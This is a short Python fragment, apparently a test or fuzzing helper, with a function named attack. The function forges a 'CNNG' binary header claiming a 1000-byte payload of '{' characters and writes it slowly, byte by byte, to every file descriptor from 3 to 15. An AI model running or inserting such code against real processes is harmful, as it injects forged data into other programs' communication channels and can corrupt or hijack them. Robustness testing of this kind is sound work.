import os
import struct
import time


def attack():
    packed = struct.pack("<4sBIQ", b"CNNG", 1, 1000, 0) + b"{" * 1000
    for byte in packed:
        for descriptor in range(3, 16):
            try:
                os.write(descriptor, bytes([byte]))
            except OSError:
                pass
        time.sleep(0.05)
